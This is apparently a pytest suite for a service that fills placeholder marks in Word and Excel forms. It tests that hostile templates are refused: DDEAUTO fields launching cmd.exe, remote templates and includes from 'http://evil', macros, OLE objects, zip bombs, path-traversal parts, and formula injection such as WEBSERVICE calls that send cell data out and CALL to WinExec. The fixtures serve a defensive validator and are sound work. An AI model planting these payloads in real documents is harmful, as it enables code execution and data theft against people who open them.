"""The papers that go back to an issuer: marks filled, nothing run, hostile forms refused."""

import io
import zipfile
from functools import partial
from typing import Any

import docx
import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from gezhi.channels.orders import package, papers
from gezhi.kernel.refusal import Invalid
from gezhi.web.refusals import sentence
from tests.evidence.pictures import photo

VALUES = {"number": "WH1", "text": "第一行\n第二行", "office": "悦海社区", "issuer": "12345热线"}


def word(*paragraphs: str) -> bytes:
    document = docx.Document()
    for one in paragraphs:
        document.add_paragraph(one)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def book(*cells: str) -> bytes:
    made = openpyxl.Workbook()
    for number, text in enumerate(cells, 1):
        made.active.cell(number, 1).value = text
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, part: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry, old.read(entry))
        new.writestr(name, part)
    return out.getvalue()


def text_of(data: bytes) -> str:
    document = docx.Document(io.BytesIO(data))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([*(one.text for one in document.paragraphs), *cells])


@pytest.mark.parametrize("paper", ["answer", "return", "extend"])
@pytest.mark.parametrize("suffix", papers.SUFFIXES)
def test_our_own_forms_may_be_kept_and_are_filled(paper: str, suffix: str) -> None:
    form = papers.own(paper, suffix)
    papers.judged(form, suffix)
    made = papers.filled(form, suffix, VALUES)
    said = text_of(made) if suffix == "docx" else _said(made)
    assert "WH1" in said
    assert "第一行\n第二行" in said
    assert "{{" not in said


def _said(data: bytes) -> str:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return "\n".join(str(cell.value) for row in sheet.iter_rows() for cell in row if cell.value)


def test_a_mark_that_word_cut_into_pieces_is_filled() -> None:
    document = docx.Document()
    paragraph = document.add_paragraph("单号：")
    for piece in ("{", "{单", "号}", "}。"):
        paragraph.add_run(piece)
    out = io.BytesIO()
    document.save(out)
    assert text_of(papers.filled(out.getvalue(), "docx", VALUES)) == "单号：WH1。"


def test_marks_in_nested_tables_and_heads_are_filled() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "{{单号}}"
    inner = document.add_table(1, 1).cell(0, 0).add_table(1, 1)
    inner.cell(0, 0).text = "{{number}}"
    out = io.BytesIO()
    document.save(out)
    made = docx.Document(io.BytesIO(papers.filled(out.getvalue(), "docx", VALUES)))
    assert made.sections[0].header.paragraphs[0].text == "WH1"
    assert made.tables[0].cell(0, 0).tables[0].cell(0, 0).text == "WH1"


@pytest.mark.parametrize("evil", ["=cmd|'/c calc'!A1", "+1+1", "@SUM(1)", "-1"])
def test_what_an_issuer_wrote_never_becomes_a_formula(evil: str) -> None:
    made = papers.filled(book("{{单号}}"), "xlsx", {"number": evil})
    cell = openpyxl.load_workbook(io.BytesIO(made)).active["A1"]
    assert (cell.value, cell.data_type) == (evil, "s")


def test_control_signs_spoil_no_document() -> None:
    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "好\x00\x0b\ud800\uffff的"})) == "好的"


def test_a_value_that_looks_like_a_mark_is_filled_once() -> None:
    assert text_of(papers.filled(word("{{内容}}"), "docx", {"text": "{{单号}}", "number": "WH1"})) in {
        "{{单号}}"
    }


HYPER = b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
RELS = '<?xml version="1.0"{encoding}?><{p}Relationships xmlns{x}="http://schemas.openxmlformats.org/package/2006/relationships"><{p}Relationship Id="rId1" Type="{type}" Target="{target}" TargetMode="External"/></{p}Relationships>'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def form_with_link(
    kind: str = "attachedTemplate",
    target: str = "https://x/a.dotm",
    prefix: str = "",
    encoding: str = "utf-8",
) -> bytes:
    """A form whose settings name something elsewhere."""
    said = RELS.format(
        p=f"{prefix}:" if prefix else "",
        x=f":{prefix}" if prefix else "",
        encoding=f' encoding="{encoding}"',
        type=KINDS + kind,
        target=target,
    )
    return with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", said.encode(encoding))


HOSTILE: dict[str, tuple[Any, str, str]] = {
    "nothing": (b"", "docx", "broken_form"),
    "a picture": (b"\x89PNG\r\n\x1a\n" + bytes(40), "docx", "broken_form"),
    "half a form": (word("{{单号}}")[:-200], "docx", "broken_form"),
    "old word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "docx", "broken_form"),
    "a workbook called docx": (book("{{单号}}"), "docx", "broken_form"),
    "a bomb": (with_part(word("{{单号}}"), "word/x.xml", bytes(30_000_000)), "docx", "bomb"),
    "macros": (with_part(word("{{单号}}"), "word/vbaProject.bin", b"x"), "docx", "macros"),
    "a template far away": (
        with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER),
        "docx",
        "abroad",
    ),
    "a template at an address that ends like a link": (
        form_with_link(target="https://x/hyperlink"),
        "docx",
        "abroad",
    ),
    "a template in UTF-16": (form_with_link(encoding="utf-16"), "docx", "abroad"),
    "a template behind a prefix": (form_with_link(prefix="r"), "docx", "abroad"),
    "a kind that only ends like a link": (form_with_link("x/hyperlink"), "docx", "abroad"),
    "an address that is called a part": (
        with_part(
            word("{{单号}}"), "word/_rels/settings.xml.rels", HYPER.replace(b' TargetMode="External"', b"")
        ),
        "docx",
        "abroad",
    ),
    "a link that is no XML": (
        with_part(word("{{单号}}"), "word/_rels/settings.xml.rels", b"<Relationships>"),
        "docx",
        "broken_form",
    ),
    "entities": (
        with_part(word("{{单号}}"), "word/settings.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'),
        "docx",
        "broken_form",
    ),
    "no marks": (word("答复"), "docx", "no_marks"),
    "strange marks": (word("{{密码}}"), "docx", "unknown_marks"),
    "a formula": (book("={{单号}}"), "xlsx", "in_a_formula"),
    "another suffix": (word("{{单号}}"), "docm", "unknown_suffix"),
    "too large": (bytes(papers.MOST_BYTES + 1), "docx", "form_too_large"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_form_is_refused_with_its_reason(name: str) -> None:
    data, suffix, code = HOSTILE[name]
    with pytest.raises(Invalid) as refused:
        papers.judged(data, suffix)
    assert (refused.value.field, refused.value.code) == ("form", code)


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_link_that_a_person_presses_may_stay(encoding: str) -> None:
    papers.judged(form_with_link("hyperlink", "https://12345.gov.cn/", encoding=encoding), "docx")


def test_twin_without_the_look_at_relationships_a_template_far_away_would_pass(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(package, "judge_relationship", lambda part, name, attributes: None)
    papers.judged(HOSTILE["a template in UTF-16"][0], "docx")


def test_twin_without_the_measure_a_bomb_would_be_opened(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(papers, "measure", lambda data: None)
    papers.judged(HOSTILE["macros"][0], "docx")


def test_the_libraries_are_loaded_when_somebody_fills_a_form() -> None:
    import subprocess
    import sys

    code = "import gezhi.channels.orders.papers, sys; print({'docx', 'openpyxl'} & set(sys.modules))"
    found = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert found.stdout.strip() == "set()"


# ---- what runs, loads or asks elsewhere when somebody opens the paper ----


def changed(data: bytes, name: str, old: str, new: str) -> bytes:
    """The form with one part changed at one place."""
    part = zipfile.ZipFile(io.BytesIO(data)).read(name).decode()
    assert old in part
    return with_part(data, name, part.replace(old, new, 1).encode())


def in_word(xml: str) -> bytes:
    return changed(word("{{单号}}"), "word/document.xml", "<w:sectPr", xml + "<w:sectPr")


def run(xml: str) -> str:
    return f"<w:r>{xml}</w:r>"


BEGIN, SEPARATE, END = (run(f'<w:fldChar w:fldCharType="{one}"/>') for one in ("begin", "separate", "end"))


def said(code: str) -> str:
    return run(f'<w:instrText xml:space="preserve">{code}</w:instrText>')


def field(*codes: str) -> bytes:
    """A field whose code is cut into runs; what is no code stands as it is."""
    inner = "".join(one if one.startswith("<") else said(one) for one in codes)
    return in_word(f"<w:p>{BEGIN}{inner}{SEPARATE}{run('<w:t>x</w:t>')}{END}</w:p>")


def linked(kind: str, target: str, type_: str, *, base: str = KINDS, name: str = "word/x.dat") -> bytes:
    """A form with a part of some kind, whatever its name says."""
    form = with_part(word("{{单号}}"), name, b"<x/>")
    form = changed(
        form,
        "[Content_Types].xml",
        "</Types>",
        f'<Override PartName="/{name}" ContentType="{type_}"/></Types>',
    )
    rel = f'<Relationship Id="rId900" Type="{base}{kind}" Target="{target}"/>'
    return changed(form, "word/_rels/document.xml.rels", "</Relationships>", rel + "</Relationships>")


def sheet(change: Any) -> bytes:
    made = openpyxl.Workbook()
    made.active["A1"] = "{{单号}}"
    change(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def cell(formula: str) -> bytes:
    return sheet(lambda made: made.active.__setitem__("B1", formula))


def named(name: str, text: str) -> bytes:
    return sheet(lambda made: made.defined_names.__setitem__(name, DefinedName(name, attr_text=text)))


def ruled(formula: str) -> bytes:
    return sheet(lambda made: made.active.conditional_formatting.add("A1:A9", FormulaRule(formula=[formula])))


def checked(formula: str) -> bytes:
    def add(made: Any) -> None:
        rule = DataValidation(type="list", formula1=formula)
        made.active.add_data_validation(rule)
        rule.add("A1")

    return sheet(add)


OLE = "application/vnd.openxmlformats-officedocument.oleObject"
RUNS: dict[str, tuple[Any, str, str, str]] = {
    **{
        f"field {code.split()[0]}": (field(code), "docx", "field", code.split()[0])
        for code in (
            'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
            "DDE x y",
            'INCLUDEPICTURE "http://evil/p.png" \\d',
            'INCLUDETEXT "http://evil/x.docx"',
            'LINK Excel.Sheet.8 "http://evil/x.xls" a',
            'DATABASE \\d "http://evil"',
            "MACROBUTTON AutoExec x",
            'IMPORT "http://evil/x.gif"',
            "QUOTE 68 68 69",
            "GOTOBUTTON x",
        )
    },
    "a field cut into runs": (field(" DD", "EAU", "TO x y"), "docx", "field", "DDEAUTO"),
    "a field in small letters": (field("dde x y"), "docx", "field", "DDE"),
    "a field that another one begins": (
        field(BEGIN + said("AUTHOR") + SEPARATE + run("<w:t>DDEAUTO</w:t>") + END, " PAGE"),
        "docx",
        "field",
        "{ { } }",
    ),
    "a field that another one completes": (
        field("DAT", BEGIN + said("AUTHOR") + SEPARATE + run("<w:t>ABAS</w:t>") + END, "E x"),
        "docx",
        "field",
        "{ { } }",
    ),
    "a field that nobody closed": (in_word(f"<w:p>{BEGIN}{said('DDE x y')}</w:p>"), "docx", "field", "DDE"),
    "a code outside any field": (in_word(f"<w:p>{said('DDE x y')}</w:p>"), "docx", "field", "DDE"),
    "a simple field": (
        in_word('<w:p><w:fldSimple w:instr="INCLUDEPICTURE x"/></w:p>'),
        "docx",
        "field",
        "INCLUDEPICTURE",
    ),
    "a link to a share": (field('HYPERLINK "\\\\\\\\evil\\\\share"'), "docx", "abroad", ""),
    "a link to a file": (field('HYPERLINK "file:///c:/x.exe"'), "docx", "abroad", ""),
    "a document within": (linked("aFChunk", "x.dat", "text/html"), "docx", "strange_part", "html"),
    "a document within that is called XML": (
        linked("aFChunk", "x.dat", "application/xml"),
        "docx",
        "alt_chunk",
        "",
    ),
    "its place in the text": (in_word("<w:altChunk/>"), "docx", "alt_chunk", ""),
    "macros by another name": (
        linked("vbaProject", "x.dat", "application/vnd.ms-office.vbaProject"),
        "docx",
        "macros",
        "",
    ),
    "macros by their relationship alone": (
        linked(
            "vbaProject",
            "x.dat",
            "application/xml",
            base="http://schemas.microsoft.com/office/2006/relationships/",
        ),
        "docx",
        "macros",
        "",
    ),
    "an object by another name": (linked("oleObject", "x.dat", OLE), "docx", "macros", ""),
    "an object by its relationship alone": (
        linked("oleObject", "x.dat", "application/xml"),
        "docx",
        "macros",
        "",
    ),
    "a control": (linked("control", "x.dat", "application/xml"), "docx", "macros", ""),
    "a book within": (linked("package", "x.dat", "application/xml"), "docx", "macros", ""),
    "a picture that is none": (linked("image", "x.dat", "image/png"), "docx", "macros", ""),
    "a link to a file by relationship": (
        form_with_link("hyperlink", "file://evil/x.exe"),
        "docx",
        "abroad",
        "",
    ),
    "a link to a share by relationship": (
        form_with_link("hyperlink", "\\\\evil\\share"),
        "docx",
        "abroad",
        "",
    ),
    "data of a mailing": (in_word("<w:mailMerge/>"), "docx", "abroad", ""),
    "a part outside": (with_part(word("{{单号}}"), "../../x.xml", b"<a/>"), "docx", "part_names", ""),
    "a part from the root": (with_part(word("{{单号}}"), "/etc/x.xml", b"<a/>"), "docx", "part_names", ""),
    "a part with a backslash": (
        with_part(word("{{单号}}"), "word\\x.xml", b"<a/>"),
        "docx",
        "part_names",
        "",
    ),
    "a target outside": (
        linked("header", "../../../x.xml", "application/xml"),
        "docx",
        "part_names",
        "",
    ),
    **{
        f"formula {formula}": (cell("=" + formula), "xlsx", "formula", what)
        for formula, what in (
            ('WEBSERVICE("http://evil/?"&A1)', "WEBSERVICE"),
            ('_xlfn.WEBSERVICE("http://evil")', "_xlfn.WEBSERVICE"),
            ('HYPERLINK("http://evil/?"&A2,"x")', "HYPERLINK"),
            ('IMAGE("http://evil")', "IMAGE"),
            ("cmd|'/c calc'!A0", "cmd|'/c calc'!A0"),
            ("'http://evil/[x.xlsx]S'!A1", "'http://evil/[x.xlsx]S'!A1"),
            ("[1]S!A1", "[1]S!A1"),
            ("'C:\\x\\[b.xlsx]S'!A1", "'C:\\x\\[b.xlsx]S'!A1"),
            ("b.xlsx!A1", "b.xlsx!A1"),
            ('RTD("x",,"y")', "RTD"),
            ('CALL("kernel32","WinExec","JCJ","calc")', "CALL"),
            ('IF(1,EXEC("calc"))', "EXEC"),
        )
    },
    "a name that begins by itself": (named("Auto_Open", "Sheet!$A$1"), "xlsx", "macros", ""),
    "a name that asks a program": (named("x", "cmd|'/c calc'!A0"), "xlsx", "formula", "cmd|'/c calc'!A0"),
    "a rule that fetches": (ruled('WEBSERVICE("http://evil")=1'), "xlsx", "formula", "WEBSERVICE"),
    "a check that asks a program": (checked("cmd|'/c calc'!A0"), "xlsx", "formula", "cmd|'/c calc'!A0"),
}


@pytest.mark.parametrize("name", RUNS)
def test_what_would_run_or_load_when_it_is_opened_is_refused_by_its_name(name: str) -> None:
    data, suffix, code, what = RUNS[name]
    deeds = (partial(papers.judged, data, suffix), partial(papers.filled, data, suffix, VALUES))
    for deed in deeds:  # one that was kept before, too
        with pytest.raises(Invalid) as refused:
            deed()
        assert (refused.value.code, refused.value.details.get("what", "")) == (code, what)
    assert what in sentence(refused.value)


@pytest.mark.parametrize(
    "name", ["field DDEAUTO", "formula [1]S!A1", "a document within", "its place in the text"]
)
def test_twin_without_the_lists_it_would_be_kept_and_handed_out(
    name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(package, "judge_part", lambda name, kind, part: None)
    monkeypatch.setattr(package, "_refuse_strange", lambda what: None)
    data, suffix, *_why = RUNS[name]
    papers.judged(data, suffix)


TOC = (r" TOC \o ", r" HYPERLINK \l &quot;_Toc1&quot; ", r"PAGEREF _Toc1 \h")


def rich_word() -> bytes:
    """As offices write them: page numbers, a mailing's field, a table of contents, a picture, a footnote's reference, a link."""
    document = docx.Document()
    document.add_paragraph("{{单号}}")
    document.add_picture(io.BytesIO(photo()))
    document.sections[0].footer.paragraphs[0].text = "第 页"
    out = io.BytesIO()
    document.save(out)
    contents, entry, page = (said(code) for code in TOC)
    toc = f"<w:p>{BEGIN}{contents}{SEPARATE}{BEGIN}{entry}{SEPARATE}{BEGIN}{page}{SEPARATE}{END}{END}{END}</w:p>"
    codes = (
        "PAGE \\* MERGEFORMAT",
        "NUMPAGES",
        'DATE \\@ "yyyy年M月d日"',
        "MERGEFIELD 姓名",
        "SEQ 表",
        "= 1 + 2",
        "eq \\o\\ac(○,1)",
    )
    more = "".join(f"<w:p>{BEGIN}{said(code)}{SEPARATE}{END}</w:p>" for code in codes)
    sum_ = f"<w:p>{BEGIN}{said('= ')}{BEGIN}{said('NUMPAGES')}{END}{said(' - 1')}{SEPARATE}{END}</w:p>"
    simple = '<w:p><w:fldSimple w:instr=" PAGE "/></w:p>'
    form = changed(out.getvalue(), "word/document.xml", "<w:sectPr", toc + more + sum_ + simple + "<w:sectPr")
    # as LibreOffice heads its metadata
    return changed(
        form,
        "_rels/.rels",
        "package/2006/relationships/metadata/core",
        "officedocument/2006/relationships/metadata/core",
    )


def rich_book() -> bytes:
    """A form with sums, a list to choose from, colours by rule, names, a note, a printer's own part, a link and two sheets."""
    made = openpyxl.Workbook()
    first, second = made.active, made.create_sheet("名单 一")
    first.append(["{{单号}}", "=SUM(C1:C9)", '=IF(\'名单 一\'!A1="是",TODAY(),"")', '=ROUND(B1/2,1)&"元"'])
    first["A9"].comment = Comment("说明", "办公室")
    first["A9"].hyperlink = "https://12345.gov.cn/"
    second["A1"] = "是"
    first.conditional_formatting.add("A1:A9", FormulaRule(formula=['AND($A1<>"",ISBLANK($B1))']))
    for formula in ('"是,否"', "'名单 一'!$A$1:$A$3"):
        rule = DataValidation(type="list", formula1=formula)
        first.add_data_validation(rule)
        rule.add("D1")
    made.defined_names["清单"] = DefinedName("清单", attr_text="'名单 一'!$A$1:$A$9")
    first.print_title_rows = "1:1"
    out = io.BytesIO()
    made.save(out)
    form = with_part(out.getvalue(), "xl/printerSettings/printerSettings1.bin", b"d\0e\0v\0")
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
    return changed(
        form, "[Content_Types].xml", "<Default", f'<Default Extension="bin" ContentType="{kind}"/><Default'
    )


@pytest.mark.parametrize(("suffix", "made"), [("docx", rich_word), ("xlsx", rich_book)])
def test_what_forms_of_offices_have_in_them_may_stay(suffix: str, made: Any) -> None:
    papers.judged(made(), suffix)
    filled = papers.filled(made(), suffix, VALUES)
    assert "WH1" in (text_of(filled) if suffix == "docx" else _said(filled))
